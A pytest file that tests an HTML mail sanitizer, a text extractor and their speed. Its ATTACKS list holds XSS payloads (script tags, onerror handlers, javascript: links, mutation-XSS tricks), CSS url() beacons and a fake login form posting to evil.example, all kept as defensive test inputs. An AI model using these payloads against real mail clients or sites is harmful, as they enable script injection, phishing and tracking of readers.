"""HTML mail made safe, and its text."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tracker.html_mail import count_remote_images, document, sanitize
from tracker.html_text import text_from_html
from tracker.html_tidy import is_small, tidy


class Seen(HTMLParser):
    """The tags and attributes that a browser would meet."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


#: Enough text that what follows is written anew by `tidy`.
LARGE = "x" * 70_000

FORBIDDEN_TAGS = {"script", "style", "iframe", "form", "input", "button", "meta", "base", "link", "svg", "math"}
FORBIDDEN_TAGS |= {"object", "embed", "video", "audio", "source", "textarea", "select", "template", "title"}


def assert_harmless(markup: str) -> None:
    seen = Seen(markup)
    assert not FORBIDDEN_TAGS & set(seen.tags)
    for tag, name, value in seen.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in ("srcset", "background", "action", "formaction", "id", "name", "class", "xlink:href")
        if name == "href":
            assert value.strip().lower().startswith(("http://", "https://", "mailto:", "tel:"))
        if name == "src":
            assert value.startswith(("data:image/", "/cid/"))
        if name == "style":
            assert "url" not in value.lower()
            assert "\\" not in value
            assert "position" not in value


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' JaVa&#10;sCript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>@import 'https://evil.example';body{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p style='background-image:url(https://evil.example)'>x</p>",
    "<p style='background:u\\72l(https://evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;color:red'>x</p>",
    "<p style=\"font-family:'x;background:url(https://evil.example)'\">x</p>",
    "<td background=https://evil.example>x</td>",
    "<img srcset='https://evil.example 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html;base64,PHN2Zz4='>",
    "<img src='file:///etc/passwd'>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<video src=https://evil.example autoplay></video>",
    "<div id=x name=y class=z>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>1</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_submits_navigates_or_fetches(attack: str) -> None:
    assert_harmless(sanitize(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nor_when_it_is_hidden_in_large_mail(attack: str) -> None:
    assert not is_small(LARGE + attack)
    assert_harmless(sanitize(LARGE + attack))


@settings(max_examples=80, deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<table>", "'", '"', "<", ">", "<!--", "-->", "&lt;"]),
        max_size=8,
    )
)
def test_no_mixture_gets_through(pieces: list[str]) -> None:
    assert_harmless(sanitize("".join(pieces)))
    assert_harmless(sanitize(LARGE + "".join(pieces)))


def test_links_open_elsewhere_and_keep_quiet() -> None:
    cleaned = sanitize('<a href="https://x.example/?a=1&amp;b=2" target=_self rel=opener>x</a>')
    assert Seen(cleaned).attributes == [
        ("a", "href", "https://x.example/?a=1&b=2"),
        ("a", "target", "_blank"),
        ("a", "rel", "noopener noreferrer"),
    ]


def test_remote_images_wait_behind_a_placeholder() -> None:
    cleaned = sanitize('<img src="https://t.example/p.gif?a=1&amp;b=2" alt=logo width=1>')
    assert set(Seen(cleaned).attributes) == {
        ("img", "data-remote-src", "https://t.example/p.gif?a=1&b=2"),
        ("img", "alt", "logo"),
        ("img", "width", "1"),
    }


def test_remote_images_are_shown_when_allowed() -> None:
    cleaned = sanitize('<img src="http://t.example/p.gif">', remote_images=True)
    assert ("img", "src", "http://t.example/p.gif") in Seen(cleaned).attributes


def test_remote_images_are_counted_and_text_about_them_is_not() -> None:
    html = '<img src="https://a.example"><IMG SRC=HTTP://b.example><img src="cid:1">data-remote-src="x" &lt;img src="http://c"&gt;'
    assert count_remote_images(html) == 2


def test_pictures_of_the_mail_itself_are_shown_from_where_they_are_served() -> None:
    html = '<img src="cid:logo%40acme"><img src="CID:unknown"><img src="data:image/png;base64,iVBORw0KGgo=">'
    cleaned = sanitize(html, cid_urls={"logo@acme": "/cid/7?x=1&y=2"})
    assert Seen(cleaned).attributes == [
        ("img", "src", "/cid/7?x=1&y=2"),
        ("img", "src", "data:image/png;base64,iVBORw0KGgo="),
    ]


def test_looks_survive() -> None:
    html = "<p style=\"color: #ff0000; FONT-FAMILY: 'Arial', sans-serif; background: rgba(1, 2, 3, .5)\">x</p>"
    cleaned = sanitize(html)
    assert "color:#ff0000" in cleaned
    assert "Arial" in cleaned
    assert "rgba(1, 2, 3, .5)" in cleaned


def test_large_mail_keeps_its_layout() -> None:
    row = "<tr><td align=right>1<td><b>two</b> &amp; <a href='https://x.example'>three</a></tr>"
    html = f"<html><body><table>{row * 3_000}</table><ul><li>a<li>b</ul><p>one<p>two</body></html>"
    assert not is_small(html)
    seen = Seen(sanitize(html))
    assert (seen.tags.count("tr"), seen.tags.count("td"), seen.tags.count("a")) == (3_000, 6_000, 3_000)
    assert (seen.tags.count("table"), seen.tags.count("li"), seen.tags.count("p")) == (1, 2, 2)
    assert ("td", "align", "right") in seen.attributes
    assert text_from_html(html).endswith("1 two & three\n\n- a\n- b\n\none\n\ntwo")


@pytest.mark.parametrize(
    "piece",
    [
        *(
            "<div>",
            "<b>",
            "<p><b>",
            "<table><tr><td>",
            "<blockquote><p>",
            "<div><table></div></table>",
            "<",
            "&",
            "\xa0",
        ),
        *("<b><div></b>", "<svg><div></svg>", "<ul><li>", "<a href='", "<!--", "<table><div></table>", "<script>"),
        *("<i><p></i>", "&notit;", "<font color=red><p>", "</p>", "<button><div></button>", "<a b c d e f g "),
    ],
)
def test_time_is_linear_in_the_mail(piece: str) -> None:
    html = piece * (120_000 // len(piece))
    started = time.process_time()
    cleaned = sanitize(html)
    text_from_html(html)
    assert time.process_time() - started < 3
    assert len(cleaned) < 20_000_000


def test_many_attributes_take_no_time() -> None:
    html = "<p " + " ".join(f"a{number}=1" for number in range(100_000)) + " title=x>text</p>"
    started = time.process_time()
    assert "text" in sanitize(html)
    assert time.process_time() - started < 6


def test_document_forbids_what_sanitizing_removes() -> None:
    page = document("<p>x</p>")
    assert "<p>x</p></body></html>" in page
    policy = next(
        value for tag, name, value in Seen(page).attributes if name == "content" and "default-src" in value
    )
    assert policy.startswith("default-src 'none'; img-src 'self' data:; ")
    assert "https:" not in policy
    assert "img-src 'self' data: https: http:;" in document("", remote_images=True)


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Hello&nbsp;<b>Jane</b>,</p><p>bye</p>", "Hello Jane,\n\nbye"),
        ("<div>one<br>two</div><div>three</div>", "one\ntwo\nthree"),
        ("<div>one</div><div><br></div><div>two</div>", "one\n\ntwo"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("yes<blockquote>no<blockquote>deep</blockquote></blockquote>", "yes\n\n> no\n>\n> > deep"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>", "1 2\n3"),
        ("<title>T</title><style>a{}</style><script>1</script>x &lt;y&gt; &amp;amp;", "x <y> &amp;"),
        ("a\n   b\tc", "a b c"),
        ("pre\u200bheader\u034f \u200b\u034f", "preheader"),
        ("", ""),
    ],
)
def test_text_is_what_a_reader_sees(html: str, text: str) -> None:
    assert text_from_html(html) == text


@settings(max_examples=80, deadline=None)
@given(st.text(st.sampled_from("<>/=\"'& abpdivtrl!-;\x00é"), max_size=200))
def test_tidying_loses_no_safety_and_breaks_nothing(text: str) -> None:
    assert_harmless(sanitize(text))
    assert_harmless(sanitize(LARGE + text))
    assert "\0" not in text_from_html(text)
    assert tidy(LARGE + text).startswith(LARGE)
